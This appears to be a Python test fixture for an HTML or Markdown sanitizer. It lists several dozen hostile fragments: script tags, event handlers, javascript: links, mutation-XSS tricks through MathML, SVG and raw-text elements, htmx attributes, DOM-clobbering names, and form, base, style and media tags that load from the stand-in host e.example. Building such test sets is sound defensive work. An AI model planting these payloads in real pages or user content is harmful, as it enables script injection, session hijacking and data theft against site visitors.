"""Hostile pieces of statements: each would run a script, load something from elsewhere or act on the page around it.

What would run sets `window.ran`; what would load asks e.example.
"""

PIECES = {
    "script": "<script>ran=1</script>",
    "script in capitals, cut in two": "<SCRIPT SRC=//e.example/x.js></SCRIPT><scr<script>ipt>ran=1</scr</script>ipt>",
    "event of a picture": "<img src=x onerror=ran=1>",
    "events of anything": "<details open ontoggle=ran=1><summary>s</summary></details><x onclick=ran=1>x</x>",
    "script in a link": "<a href='javascript:ran=1'>l</a> [m](javascript:ran=1) [d](data:text/html,x)",
    "script in a link, in disguise": "<a href='&#106;avascript:ran=1'>l</a> <a href='java\tscript:ran=1'>l</a>",
    "script in a reference": "[a][r] <javascript:ran=1>\n\n[r]: <javascript:ran=1>",
    "link to this site": "<a href='//e.example/'>l</a> [r](/admin/) <a href='?x=1'>q</a>",
    "frames": "<iframe srcdoc='<script>x</script>'></iframe><object data=//e.example/x></object>"
    "<embed src=//e.example/x>",
    "scripted frame": "<iframe src='javascript:parent.ran=1'></iframe><frameset><frame src=//e.example/></frameset>",
    "svg": "<svg onload=ran=1><style><img src=x onerror=ran=1></style></svg>",
    "svg with script and use": "<svg><script>ran=1</script><use href=//e.example/x.svg#x /><animate "
    "onbegin=ran=1></svg>",
    "svg with a link": "<svg><a xlink:href='javascript:ran=1'><text>x</text></a><image "
    "href=//e.example/x></image></svg>",
    "htmx": "<div hx-get=/admin/ hx-trigger=load data-hx-on:htmx:load=ran=1 onclick=x style='top:0' class=btn>d</div>",
    "htmx under its other name": "<p data-hx-post=/logout/ data-hx-trigger=load "
    "hx-vals='js:{a:ran=1}' hx-on::load='ran=1'>x</p>",
    "form": "<base href=//e.example/><form action=//e.example><input name=csrfmiddlewaretoken autofocus onfocus=ran=1>"
    "<button formaction=//e.example>x</button></form>",
    "meta": "<meta http-equiv=refresh content='0;url=//e.example'><style>@import "
    "'//e.example/x.css'</style><link rel=x>",
    "style": "<p style='background:url(//e.example/x)'>x</p><style>*{background:url(//e.example/y)}</style>"
    "<link rel=stylesheet href=//e.example/x.css>",
    "mutation through MathML": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=ran=1&gt;'>",
    "mutation through a form": "<form><math><mtext></form><form><mglyph><style></math><img src "
    "onerror=ran=1></style></mglyph></form>",
    "mutation through svg": '<svg></p><style><a id="</style><img src=1 onerror=ran=1>">',
    "mutation through raw text": "<noscript><p title='</noscript><img src=x onerror=ran=1>'></noscript>"
    "<xmp><p title='</xmp><img src=x onerror=ran=1>'></xmp><textarea></textarea><img src=x onerror=ran=1></textarea>",
    "MathML links": "<math href='javascript:ran=1'><maction actiontype='statusline#x' "
    "xlink:href='javascript:x'>c</maction></math>",
    "MathML annotation": "<annotation-xml encoding='text/html'><script>ran=1</script>"
    "</annotation-xml><mi xlink:href='data:x'>m</mi>",
    "TeX": "$\\href{javascript:ran=1}{x}$ $\\htmlData{hx-get=/admin/}{x}$ $\\includegraphics{//e.example/x}$",
    "LaTeX links": "\\href{javascript:ran=1}{x} \\url{javascript:ran=1} \\href{//e.example}{x} \\hypertarget{csrf}{x}",
    "names of the page's own": "<p id=csrf name=csrf>clobber</p><a name=forms>x</a><a id=content "
    "href=//e.example>y</a>",
    "media": "<video src=//e.example/v><audio autoplay><source src=//e.example/x></audio><picture>"
    "<source srcset=//e.example/x></picture>",
    "pictures from elsewhere": "<img src=//e.example/x> ![x](//e.example/y) ![x](http:e.example/z) "
    "<img srcset='//e.example/x 1x'>"
    " <img src=https:e.example/x> <input type=image src=//e.example/x> <body background=//e.example/x>",
    "templates": "<template><script>ran=1</script></template><title></title><script>ran=1</script></title>",
}
